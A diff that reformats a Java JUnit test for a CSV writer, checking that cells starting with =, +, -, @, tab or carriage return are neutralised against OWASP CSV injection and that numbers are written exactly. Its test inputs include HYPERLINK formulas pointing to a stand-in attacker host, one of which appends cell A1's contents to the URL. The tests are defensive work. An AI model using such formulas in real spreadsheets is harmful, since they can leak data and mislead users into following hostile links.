@@ -15,7 +15,10 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
-/** CSV as a spreadsheet will open it: text that a spreadsheet would run as a formula is neutralised, numbers stay numbers. */
+/**
+ * CSV as a spreadsheet will open it: text that a spreadsheet would run as a formula is neutralised,
+ * numbers stay numbers.
+ */
 class CsvTest {
 
   /** The one cell's text as written (after the header line). */
@@ -31,16 +34,30 @@ class CsvTest {
     Map<String, Object> row = new LinkedHashMap<>();
     row.put("cell", value);
     CsvMapper mapper = new CsvMapper();
-    try (MappingIterator<Map<String, String>> rows = mapper.readerForMapOf(String.class)
-        .with(CsvSchema.emptySchema().withHeader()).readValues(Csv.write(List.of(row)))) {
+    try (MappingIterator<Map<String, String>> rows =
+        mapper
+            .readerForMapOf(String.class)
+            .with(CsvSchema.emptySchema().withHeader())
+            .readValues(Csv.write(List.of(row)))) {
       return rows.next().get("cell");
     }
   }
 
   @ParameterizedTest(name = "[{0}]")
-  @ValueSource(strings = {"=HYPERLINK(\"https://evil.example/?\"&A1,\"invoice\")", "=1+2", "+1+2", "-1+2",
-      "-12.5", "@SUM(A1:A9)", "\t=1+2", "\r=1+2"})
-  @DisplayName("a text cell starting with = + - @, tab or carriage return gets a leading single quote (OWASP CSV injection)")
+  @ValueSource(
+      strings = {
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"invoice\")",
+        "=1+2",
+        "+1+2",
+        "-1+2",
+        "-12.5",
+        "@SUM(A1:A9)",
+        "\t=1+2",
+        "\r=1+2"
+      })
+  @DisplayName(
+      "a text cell starting with = + - @, tab or carriage return gets a leading single quote (OWASP"
+          + " CSV injection)")
   void shouldNeutraliseTextThatASpreadsheetWouldRunAsAFormula(String text) throws Exception {
     assertThat(readBack(text)).isEqualTo("'" + text);
     // Quoted by the CSV writer or not, the cell's first character is the neutralising quote.
@@ -48,7 +65,9 @@ class CsvTest {
   }
 
   @Test
-  @DisplayName("the partner's billing id from the probe leaves as text a spreadsheet shows, not a link it follows")
+  @DisplayName(
+      "the partner's billing id from the probe leaves as text a spreadsheet shows, not a link it"
+          + " follows")
   void shouldNeutraliseTheProbesBillingId() {
     assertThat(written("=HYPERLINK(\"https://evil.example\",\"pay here\")"))
         .isEqualTo("\"'=HYPERLINK(\"\"https://evil.example\"\",\"\"pay here\"\")\"");
@@ -66,10 +85,12 @@ class CsvTest {
     row.put("when", Instant.parse("2026-11-01T10:00:00Z"));
     row.put("safe", "cloud-nimbus");
     row.put("missing", null);
-    // Money at the warehouse's four decimals, exactly (39763.58 as 39763.5800, never 39763.579999…).
-    assertThat(Csv.write(List.of(row)).lines().toList()).containsExactly(
-        "net_gap_money,count,ratio,int,net,when,safe,missing",
-        "-12.5000,-3,-0.25,7,39763.5800,2026-11-01T10:00:00Z,cloud-nimbus,");
+    // Money at the warehouse's four decimals, exactly (39763.58 as 39763.5800, never
+    // 39763.579999…).
+    assertThat(Csv.write(List.of(row)).lines().toList())
+        .containsExactly(
+            "net_gap_money,count,ratio,int,net,when,safe,missing",
+            "-12.5000,-3,-0.25,7,39763.5800,2026-11-01T10:00:00Z,cloud-nimbus,");
   }
 
   @Test
